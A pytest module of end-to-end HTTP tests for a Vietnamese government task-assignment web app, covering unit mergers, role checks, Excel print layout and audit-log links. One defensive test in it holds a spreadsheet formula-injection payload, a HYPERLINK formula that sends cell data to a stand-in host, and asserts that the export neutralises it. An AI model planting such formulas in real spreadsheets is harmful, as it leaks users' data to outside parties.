"""Breaks found by playing a new week (play 325) as its users on one fresh instance — the HTTP half; the browser half
(the clerk's doors, the leader's bút phê, a department on a phone) is tests/e2e/browser/test_web_play325.py. First
the leftovers the last play named, each checked as the user meets it; each break is written as the user said it,
next to the step where it happened. One instance for the module (one test)."""
from __future__ import annotations

import io
import re
from datetime import timedelta
from typing import Any

from helpers.briefing import fast_headers, ingest, ok
from helpers.notices import notice_text
from helpers.web import csrf_of, ui_login
from tests_support import office_today

PASSWORD = "mat-khau-play-325"
XN, KHCN, NNMT, TC = "Sở Xây dựng", "Sở Khoa học và Công nghệ", "Sở Nông nghiệp và Môi trường", "Sở Tài chính"


def _flash(html: str) -> list[str]:
    return [" ".join(m.split()) for m in re.findall(r'class="flash[^>]*>([^<]*)', html)]


def _account(username: str, role: str, unit: str | None = None, clearance: int = 0) -> None:
    from services.core.auth import service as accounts
    from services.core.db import session_factory

    with session_factory()() as session:
        accounts.create_user(session, username, PASSWORD, role, unit, clearance)
        session.commit()


def test_the_last_plays_leftovers_as_the_users_meet_them(anon_client: Any) -> None:
    import openpyxl

    web = anon_client
    day = office_today()
    due = day + timedelta(days=30)
    clerk = fast_headers("clerk", clearance=1, username="vanthu-325")
    leader = fast_headers("leader", clearance=2, username="pct-325")
    xd = fast_headers("unit_staff", unit=XN, clearance=0, username="cv-xd-325")
    _account("vanthu-web-325", "clerk", clearance=1)
    _account("cv-xd-web-325", "unit_head", XN)
    _account("quantri-325", "admin", clearance=3)

    # 1. Văn thư: "'Giao Sở Xây dựng chủ trì, phối hợp với UBND các xã, phường rà soát …' — Xác nhận says 'UBND các
    # xã, phường là tên chung' and will not send it; the only way was to delete the communes from the task, and then
    # the giao ban pack no longer says they cooperate." A collective that cooperates is no unit and no inbox, but it
    # does not stop the lead's task: confirmed, the task reaches the lead and still names the communes; the
    # directory gains no unit called "UBND các xã, phường". The lead stays a unit (a collective lead is refused).
    doc = ingest(web, "tb-801.txt", notice_text("801/TB-UBND", day.strftime("%d/%m/%Y"), [
        f"Giao {XN} chủ trì, phối hợp với UBND các xã, phường rà soát các công trình nhà ở xuống cấp trên địa bàn, "
        f"hoàn thành trước ngày {due.strftime('%d/%m/%Y')}."]).encode(), clerk)
    [task] = [t for t in ok(web.get("/tasks/review", headers=clerk))["items"] if t["document"]["id"] == doc]
    assert task["lead"] == XN and any("xã, phường" in s for s in task["support"]), task
    sent = ok(web.post(f"/tasks/{task['id']}/confirm", headers=clerk))
    assert sent["sent_at"] and any("xã, phường" in s for s in sent["support"]), sent
    assert [t["id"] for t in ok(web.get("/tasks", headers=xd))["items"]] == [task["id"]]
    assert not [u for u in web.get("/units", headers=clerk).json() if "các xã" in u["name"]]

    # 7. Trưởng phòng of Sở Xây dựng (a unit head, curious): "I posted the review page's Tách form for our task: the
    # answer was the split's rule 'Chỉ văn thư hoặc lãnh đạo …', after the server had read and locked our task." Who
    # may split, merge, confirm, edit or dismiss is declared on the page's route, before anything is read.
    web.follow_redirects = True
    assert ui_login(web, "cv-xd-web-325", PASSWORD).status_code == 200
    token = csrf_of(web.get("/ui/inbox").text)
    parts = {"csrf": token, "back": "/ui/inbox", "action_1": "phần một", "lead_1": XN, "action_2": "phần hai",
             "lead_2": XN}
    for path, data in ((f"/ui/tasks/{task['id']}/split", parts),
                       (f"/ui/tasks/{task['id']}/dismiss", {"csrf": token, "back": "/ui/inbox"}),
                       (f"/ui/tasks/{task['id']}/edit", {"csrf": token, "back": "/ui/inbox", "action": "khác"}),
                       ("/ui/tasks/merge", {"csrf": token, "back": "/ui/inbox", "task_id": [task["id"], task["id"]]})):
        assert _flash(web.post(path, data=data).text) == ["Trang này không dành cho vai trò của bạn."], path
    assert ok(web.get(f"/tasks/{task['id']}", headers=clerk))["state"] == "open"

    # 5. Lãnh đạo: "the Excel pack printed over four pages: the column names only on the first, the rest is numbers
    # nobody can read." Every sheet of the Excel pack (and of the report) repeats its header row on each printed
    # page, on A4 landscape, as wide as the page.
    meeting = ok(web.post("/meetings", headers=leader, json={
        "title": "Giao ban tuần", "meeting_date": (day + timedelta(days=(7 - day.weekday()) or 7)).isoformat()}), 201)
    for path in (f"/meetings/{meeting['id']}/pack.xlsx", "/reports/progress.xlsx"):
        r = web.get(path, headers=leader)
        assert r.status_code == 200, r.text
        wb = openpyxl.load_workbook(io.BytesIO(r.content))
        for ws in wb.worksheets:
            head = next(i for i, row in enumerate(ws.iter_rows(values_only=True), 1) if row[1] is not None)
            assert ws.print_title_rows == f"${head}:${head}", (path, ws.title, ws.print_title_rows)
            assert ws.page_setup.orientation == "landscape" and int(ws.page_setup.paperSize) == 9, ws.title  # A4
            assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.page_setup.fitToWidth == 1, ws.title

    # 4. Quản trị: "Nhật ký truy cập says 'Nhiệm vụ 6f1c…', 'Văn bản 0b7e…', 'Tài khoản 91d2…' — I cannot tell who did
    # what to which document without copying ids into the API." Each object is named (a document by its number and
    # subject, a meeting by its title and date, an account by its user name) and linked to its page.
    web.cookies.clear()
    assert ui_login(web, "quantri-325", PASSWORD).status_code == 200
    audit = web.get("/ui/admin/audit").text
    cells = re.findall(r'<td data-label="Đối tượng">(.*?)</td>', audit, re.S)
    assert cells, audit[:3000]
    assert not [c for c in cells if re.search(r"[0-9a-f]{8}-[0-9a-f]{4}-", c) and "<a " not in c], cells
    assert any(f'href="/ui/documents/{doc}"' in c and "801/TB-UBND" in c for c in cells), cells
    assert any(f'href="/ui/meetings/{meeting["id"]}"' in c and "Giao ban tuần (" in c for c in cells), cells

    # 2. Văn thư: "a 2026 letter still says 'Giao Sở Tài nguyên và Môi trường chủ trì' — the review page offered it as
    # ready to confirm; confirmed, it sat in an inbox nobody has had since the merger." The shared directory knows the
    # 2025 mergers: the review page says where the unit went and since when, before the clerk confirms.
    tnmt_doc = ingest(web, "cv-802.txt", notice_text("802/TB-UBND", day.strftime("%d/%m/%Y"), [
        f"Giao Sở Tài nguyên và Môi trường chủ trì, phối hợp với Sở TT&TT cập nhật cơ sở dữ liệu đất đai, hoàn thành "
        f"trước ngày {due.strftime('%d/%m/%Y')}."]).encode(), clerk)
    web.cookies.clear()
    assert ui_login(web, "vanthu-web-325", PASSWORD).status_code == 200
    review = web.get("/ui/review").text
    notes = [" ".join(n.split()) for n in re.findall(r'<p class="small late merged-unit">(.*?)</p>', review, re.S)]
    assert notes == [
        "“Sở Tài nguyên và Môi trường” đã hợp nhất vào Sở Nông nghiệp và Môi trường từ 01/03/2025: nếu nhiệm vụ nay do "
        "Sở Nông nghiệp và Môi trường làm, sửa đơn vị trước khi xác nhận (hoặc quản trị gộp đơn vị ở trang Đơn vị).",
        "“Sở Thông tin và Truyền thông” đã hợp nhất vào Sở Khoa học và Công nghệ từ 01/03/2025: nếu nhiệm vụ nay do Sở "
        "Khoa học và Công nghệ làm, sửa đơn vị trước khi xác nhận (hoặc quản trị gộp đơn vị ở trang Đơn vị)."], notes
    assert tnmt_doc in review

    # 6. Sở Xây dựng reports progress with its own spreadsheet attached (a sum formula in it) and a note pasted from
    # Excel that starts with "="; the leader opens the Excel pack and the attachment. Held: the pack writes the note
    # as text (no formula runs in the leader's Excel), the attachment comes back byte for byte, as a download.
    import base64
    import hashlib

    sheet = openpyxl.Workbook()
    sheet.active.append(["Hạng mục", "Số công trình"])
    sheet.active.append(["Nhà ở xuống cấp", 12])
    sheet.active["B3"] = "=SUM(B2:B2)"
    buf = io.BytesIO()
    sheet.save(buf)
    xlsx = buf.getvalue()
    note = '=HYPERLINK("http://x.example/?"&D5,"Xem chi tiết") đã rà soát 12 công trình'
    ok(web.post(f"/tasks/{task['id']}/acknowledge", headers=xd))
    ok(web.post(f"/tasks/{task['id']}/progress", headers=xd, json={
        "text": note, "percent": 40, "attachments": [{"filename": "=rà soát.xlsx", "content_base64":
                                                      base64.b64encode(xlsx).decode()}]}))
    r = web.get(f"/tasks/{task['id']}/attachments/{hashlib.sha256(xlsx).hexdigest()}", headers=leader)
    assert r.status_code == 200 and r.content == xlsx, r.text[:300]
    assert r.headers["content-disposition"].startswith("attachment"), r.headers
    wb = openpyxl.load_workbook(io.BytesIO(web.get(f"/meetings/{meeting['id']}/pack.xlsx", headers=leader).content))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(c.value == note for c in cells), [c.value for c in cells][:80]
